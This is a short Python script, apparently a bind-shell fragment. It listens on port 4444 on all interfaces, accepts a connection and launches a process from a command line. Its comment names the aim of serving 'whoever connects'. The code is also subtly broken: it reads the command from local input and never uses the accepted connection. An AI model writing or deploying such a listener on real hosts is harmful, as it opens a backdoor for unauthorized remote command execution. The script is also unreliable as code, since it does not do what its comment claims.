# bind: whoever connects
import socket
import subprocess

s = socket.socket()
s.bind(("0.0.0.0", 4444))
s.listen(1)
peer, _ = s.accept()
subprocess.Popen(input().split())
